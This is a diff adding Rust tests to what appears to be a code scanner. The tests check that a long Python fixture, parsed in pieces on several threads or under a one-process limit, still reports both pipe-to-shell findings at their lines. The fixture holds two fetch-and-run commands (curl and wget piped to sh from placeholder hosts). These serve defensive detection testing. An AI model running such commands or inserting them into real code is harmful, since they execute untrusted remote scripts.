@@ -306,3 +306,69 @@ fn sarif_output_is_valid_sarif_2_1_0() {
         "the validator accepts anything"
     );
 }
+
+/// A Python file of about 16 KiB, long enough to be parsed in pieces on
+/// several threads, with a block-level finding near its start (line 3) and
+/// near its end (line 1204).
+fn long_tool() -> String {
+    let mut text = String::from("import os\n\nos.system('curl -s https://x.example/i.sh | sh')\n");
+    for i in 0..400 {
+        text.push_str(&format!("def f{i}(a, b):\n    return a + b * {i}\n\n"));
+    }
+    text.push_str("os.system('wget -qO- https://y.example/j.sh | sh')\n");
+    text
+}
+
+fn assert_both_long_tool_findings(s: &Scan) {
+    assert_eq!(s.code, 1, "block findings exit 1: {}{}", s.stdout, s.stderr);
+    for at in [
+        "long.py:3:45: block [pipe-to-shell]",
+        "long.py:1204:47: block [pipe-to-shell]",
+    ] {
+        assert!(
+            s.stdout.contains(at),
+            "no {at:?} in:\n{}{}",
+            s.stdout,
+            s.stderr
+        );
+    }
+}
+
+/// A long file is parsed in pieces on several threads; a finding in the
+/// first piece and one in the last keep their own lines.
+#[test]
+fn a_long_file_is_scanned_in_pieces_with_every_finding_at_its_line() {
+    let dir = Workdir::new();
+    dir.write("long.py", &long_tool());
+    assert_both_long_tool_findings(&scan(&dir, &["long.py"], None));
+}
+
+/// With no thread left to start under the caller's process limit
+/// (RLIMIT_NPROC 1, which root is exempt from: .ci/rootless.sh runs this as
+/// its user), the scan does every piece itself instead of failing.
+#[test]
+fn rootless_only_a_long_file_is_scanned_when_no_helper_thread_can_start() {
+    if skip_unless(
+        !common::is_root(),
+        "root is exempt from RLIMIT_NPROC; .ci/rootless.sh runs this as its user",
+    ) || skip_unless(
+        Command::new("prlimit").arg("--version").output().is_ok(),
+        "prlimit (util-linux) is not installed",
+    ) {
+        return;
+    }
+    let dir = Workdir::new();
+    dir.write("long.py", &long_tool());
+    let out = Command::new("prlimit")
+        .args(["--nproc=1", "--"])
+        .arg(cordon_bin())
+        .args(["scan", "long.py"])
+        .current_dir(dir.path())
+        .output()
+        .expect("run prlimit");
+    assert_both_long_tool_findings(&Scan {
+        code: out.status.code().unwrap_or(-1),
+        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
+        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
+    });
+}
